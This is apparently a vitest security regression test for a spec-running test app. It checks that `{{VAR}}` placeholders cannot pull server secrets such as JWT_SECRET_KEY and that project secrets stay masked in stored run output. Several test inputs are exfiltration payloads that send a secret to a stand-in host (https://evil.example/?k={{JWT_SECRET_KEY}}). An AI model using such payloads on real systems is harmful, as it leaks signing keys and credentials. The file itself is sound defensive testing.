import fs from 'node:fs'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect } from 'vitest'
import { type AppHarness, appTest } from '../support/app.js'

/**
 * Issue 8 points 2 and 5: `{{VAR}}` could name any server environment variable, so a spec line such as
 * `Navigate to https://evil/?k={{JWT_SECRET_KEY}}` sent the signing key away; and run output stored the values
 * of placeholders unmasked. Placeholders now resolve only from project variables and SPEC_ENV_ALLOWLIST.
 */
const SERVER_KEY = 'server-signing-key-that-must-never-leave-0123456789'
const TOKEN = 'tok-7c1f-secret-value-9d2e'

const uiSpec = (url: string) => `# Test: Exfiltrate\n\n## Steps\n\n1. Navigate to ${url}\n`
const apiSpec = (header: string) =>
  `# API Test: Exfiltrate\n\n## Base URL\n\nhttp://127.0.0.1:9/\n\n## Tests\n\n### GET /x\n\n- Send the request with header X-K: ${header}\n- Verify status is 200\n`

async function waitForApiRun(h: AppHarness, user: Parameters<AppHarness['request']>[0], runId: string, projectId: string) {
  const deadline = Date.now() + 90_000
  for (;;) {
    const run = (await h.request(user, { url: `/api-testing/runs/${runId}?project_id=${projectId}` })).json()
    if (!['queued', 'running'].includes(run.status)) return run
    if (Date.now() > deadline) throw new Error(`run ${runId} still ${run.status}`)
    await new Promise((r) => setTimeout(r, 200))
  }
}

describe('placeholders and server secrets', () => {
  const seen: string[] = []
  let echo: http.Server
  let echoUrl = ''
  beforeAll(async () => {
    // The server process holds its settings in its environment, as a deployed server does.
    process.env.JWT_SECRET_KEY = SERVER_KEY
    process.env.AI_API_KEY = SERVER_KEY
    process.env.S3_SECRET_ACCESS_KEY = SERVER_KEY
    process.env.OPERATOR_ONLY = 'operator-value-not-allowlisted'
    echo = http.createServer((req, res) => {
      seen.push(`${req.url} ${JSON.stringify(req.headers)}`)
      res.setHeader('content-type', 'application/json')
      res.end(JSON.stringify({ echo: req.headers['x-k'] ?? null }))
    })
    await new Promise<void>((resolve) => echo.listen(0, '127.0.0.1', resolve))
    echoUrl = `http://127.0.0.1:${(echo.address() as AddressInfo).port}`
  })
  afterAll(async () => {
    for (const k of ['JWT_SECRET_KEY', 'AI_API_KEY', 'S3_SECRET_ACCESS_KEY', 'OPERATOR_ONLY']) delete process.env[k]
    await new Promise((resolve) => echo.close(resolve))
  })
  // Even an allow-everything list never reaches the server's own settings.
  const it = appTest('sqlite', { REQUIRE_AUTH: 'true', SPEC_ENV_ALLOWLIST: '*' })

  it('refuses a server setting or an unknown name on its line, in validation and at run start', async ({ harness: h }) => {
    const p = await h.project()
    const member = p.members.member
    for (const name of ['JWT_SECRET_KEY', 'AI_API_KEY', 'S3_SECRET_ACCESS_KEY', 'DATABASE_URL', 'NODE_OPTIONS', 'jwt_secret_key']) {
      const res = await h.request(member, {
        method: 'POST',
        url: `/specs/validate?project_id=${p.id}`,
        payload: { content: uiSpec(`https://evil.example/?k={{${name}}}`) },
      })
      expect(res.statusCode).toBe(200)
      expect(res.json().valid, name).toBe(false)
      expect(res.json().errors).toContainEqual({ line: 5, message: expect.stringContaining(`{{${name}}}`) })
    }
    const api = await h.request(member, {
      method: 'POST',
      url: `/api-testing/specs/validate?project_id=${p.id}`,
      payload: { content: apiSpec('{{JWT_SECRET_KEY}}') },
    })
    expect(api.json().errors).toContainEqual({ line: 11, message: expect.stringContaining('server setting') })

    // Saved specs do not start: 422 naming the line, before any job is queued.
    await h.request(member, {
      method: 'POST',
      url: '/specs',
      payload: { project_id: p.id, name: 'leak', content: uiSpec(`${echoUrl}/?k={{JWT_SECRET_KEY}}`) },
    })
    const run = await h.request(member, { method: 'POST', url: `/runs?project_id=${p.id}`, payload: { spec_name: 'leak' } })
    expect(run.statusCode).toBe(422)
    expect(run.json().detail[0].msg).toContain('line 5: {{JWT_SECRET_KEY}} names a server setting')
    await h.request(member, {
      method: 'POST',
      url: '/api-testing/specs',
      payload: { project_id: p.id, name: 'leak', content: apiSpec('{{AI_API_KEY}}') },
    })
    const apiRun = await h.request(member, { method: 'POST', url: `/api-testing/specs/leak/run?project_id=${p.id}` })
    expect(apiRun.statusCode).toBe(422)
    expect((await h.request(member, { url: `/jobs?project_id=${p.id}` })).json().total).toBe(0)
    expect(seen).toEqual([])
  })

  it('lets an allowlist of * reach operator variables, never server settings', async ({ harness: h }) => {
    const p = await h.project()
    const res = await h.request(p.members.member, {
      method: 'POST',
      url: `/specs/validate?project_id=${p.id}`,
      payload: { content: uiSpec('https://evil.example/?k={{OPERATOR_ONLY}}') },
    })
    // SPEC_ENV_ALLOWLIST is '*' here, so OPERATOR_ONLY resolves: the allowlist is the admin's explicit choice.
    expect(res.json().valid).toBe(true)
  })
})

describe('project secrets', () => {
  beforeAll(() => {
    process.env.OPERATOR_ONLY = 'operator-value-not-allowlisted'
  })
  afterAll(() => {
    delete process.env.OPERATOR_ONLY
  })
  const it = appTest('sqlite', { REQUIRE_AUTH: 'true' }) // default SPEC_ENV_ALLOWLIST: empty

  it('are write-only, admin-managed, resolve in runs and are masked in every output', async ({ harness: h }) => {
    const p = await h.project()
    const put = (u: (typeof p.members)['admin'], name: string, body: object) =>
      h.request(u, { method: 'PUT', url: `/projects/${p.id}/variables/${name}`, payload: body })
    expect((await put(p.members.editor, 'TOKEN', { value: TOKEN })).statusCode).toBe(403)
    expect((await put(p.members.admin, 'JWT_SECRET_KEY', { value: 'x' })).statusCode).toBe(422)
    const saved = await put(p.members.admin, 'TOKEN', { value: TOKEN })
    expect(saved.json()).toMatchObject({ name: 'TOKEN', secret: true, value: null, masked: '****9d2e', needs_reentry: false })
    const list = await h.request(p.members.viewer, { url: `/projects/${p.id}/variables` })
    expect(list.body).not.toContain(TOKEN)
    expect(list.json()).toMatchObject({ items: [{ name: 'TOKEN', masked: '****9d2e' }], env_allowlist: [] })
    // Stored sealed: the database never holds the value in clear.
    const row = await h.deps.db.selectFrom('project_variables').selectAll().executeTakeFirstOrThrow()
    expect(row.value_sealed).not.toContain(TOKEN)

    // The default allowlist is empty: an operator's variable is "not set" for specs.
    const validate = await h.request(p.members.member, {
      method: 'POST',
      url: `/specs/validate?project_id=${p.id}`,
      payload: { content: uiSpec('https://x.example/{{OPERATOR_ONLY}}/{{TOKEN}}') },
    })
    expect(validate.json().errors).toEqual([{ line: 5, message: expect.stringContaining('{{OPERATOR_ONLY}} is not set') }])

    // An API run sends the secret to the echo server, whose answer fails a check: the assertion message
    // Playwright writes prints the actual value; every stored output must show {{TOKEN}} instead.
    const server = http.createServer((req, res) => {
      res.setHeader('content-type', 'application/json')
      res.end(JSON.stringify({ echo: req.headers['x-k'] ?? null }))
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    try {
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
      const content = `# API Test: Echo\n\n## Base URL\n\n${base}\n\n## Tests\n\n### GET /echo\n\n- Send the request with header X-K: {{TOKEN}}\n- Verify JSON field $.echo equals "something else"\n`
      await h.request(p.members.member, { method: 'POST', url: '/api-testing/specs', payload: { project_id: p.id, name: 'echo', content } })
      const start = await h.request(p.members.member, { method: 'POST', url: `/api-testing/specs/echo/run?project_id=${p.id}` })
      expect(start.statusCode).toBe(202)
      await h.deps.jobs.start()
      const run = await waitForApiRun(h, p.members.viewer, start.json().run_id, p.id)
      expect(run.status).toBe('failed')
      const everything = JSON.stringify(run)
      expect(everything).not.toContain(TOKEN)
      expect(run.tests[0].error).toContain('{{TOKEN}}')
      const runDir = path.join(h.dataDir, 'runs', run.id)
      for (const file of fs.readdirSync(runDir, { recursive: true }) as string[]) {
        const full = path.join(runDir, file)
        if (fs.statSync(full).isFile()) expect(fs.readFileSync(full, 'utf8'), file).not.toContain(TOKEN)
      }
    } finally {
      await new Promise((resolve) => server.close(resolve))
    }
  }, 120_000)
})
